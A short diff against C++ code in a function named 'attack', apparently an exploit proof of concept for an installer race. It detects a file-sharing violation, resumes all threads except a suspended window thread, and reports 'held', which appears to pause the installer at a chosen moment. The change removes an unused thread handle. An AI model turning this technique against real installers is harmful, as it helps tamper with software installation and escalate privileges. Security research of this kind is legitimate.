@@ -179,11 +179,9 @@ int attack(const std::wstring& installer, const std::wstring& curl_log, const st
         const DWORD error = GetLastError();
         if (probe != INVALID_HANDLE_VALUE) CloseHandle(probe);
         if (probe == INVALID_HANDLE_VALUE && error == ERROR_SHARING_VIOLATION) {
-            HANDLE thread = OpenThread(THREAD_SUSPEND_RESUME, FALSE, window_thread);
             std::set<DWORD> others = all;
             others.erase(window_thread);
             set_suspended(others, false);  // the window thread stays suspended
-            if (thread) CloseHandle(thread);
             report("held");
             break;
         }
